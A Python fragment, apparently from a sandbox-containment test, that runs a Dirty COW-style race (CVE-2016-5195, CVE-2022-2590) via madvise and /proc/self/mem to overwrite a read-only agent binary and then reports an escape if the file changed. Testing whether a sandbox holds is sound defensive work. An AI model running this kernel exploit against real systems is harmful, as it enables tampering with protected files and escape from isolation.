# Tries to win a race for a page that can only be read (CVE-2016-5195, CVE-2022-2590)
import mmap, threading
AGENT = "/run/choiros/agent/bin/agent"
before = open(AGENT, "rb").read(64)
try:
    memory = open("/proc/self/mem", "r+b", buffering=0)
except PermissionError:
    memory = None  # gVisor lets nobody write there
if memory:
    with open(AGENT, "rb") as file, memory:
        LIBC.mmap.restype = ctypes.c_void_p
        LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        page = LIBC.mmap(None, 4096, 1, 2, file.fileno(), 0)
        end = time.monotonic() + 0.3
        def discard():
            while time.monotonic() < end:
                LIBC.madvise(ctypes.c_void_p(page), ctypes.c_size_t(4096), 4)
        thread = threading.Thread(target=discard)
        thread.start()
        while time.monotonic() < end:
            try:
                memory.seek(page)
                memory.write(b"CHOIR")
            except OSError:
                break
        thread.join()
if open(AGENT, "rb").read(64) != before:
    escaped("a file of the host was changed") if not MACHINE else None
